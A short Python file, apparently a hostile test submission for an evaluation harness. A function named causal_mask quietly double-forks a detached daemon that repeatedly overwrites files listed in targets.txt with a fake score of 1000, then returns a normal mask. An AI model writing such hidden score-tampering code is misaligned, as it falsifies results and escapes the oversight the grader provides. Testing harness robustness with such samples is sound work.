"""A detached daemon (double fork and setsid) that tries to rewrite files for minutes.

It reads the paths to attack from targets.txt in the submission, if there is one."""

import os
import time

import numpy as np


def causal_mask(n):
    try:
        with open("targets.txt") as f:
            targets = f.read().split()
    except OSError:
        targets = []
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for _ in range(600):
                for path in targets:
                    try:
                        with open(path, "w") as f:
                            f.write('{"score": 1000}')
                    except OSError:
                        pass
                time.sleep(0.1)
        os._exit(0)
    return np.tril(np.ones((n, n), dtype=bool))
